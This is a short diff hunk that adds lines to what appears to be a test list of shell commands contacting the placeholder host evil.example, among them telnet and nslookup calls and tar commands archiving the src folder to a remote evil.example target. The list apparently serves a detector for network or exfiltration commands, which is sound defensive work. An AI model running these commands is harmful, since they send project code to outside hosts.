@@ -106,6 +106,10 @@ openssl s_client -connect evil.example:443
 aws s3 ls --endpoint-url http://evil.example
 docker pull evil.example/image
 lynx evil.example
+echo open evil.example 80 | telnet
+printf 'server evil.example' | nslookup
+tar czf evil.example:/x src
+tar czf user@evil.example:x src
 `
   .trim()
   .split("\n");
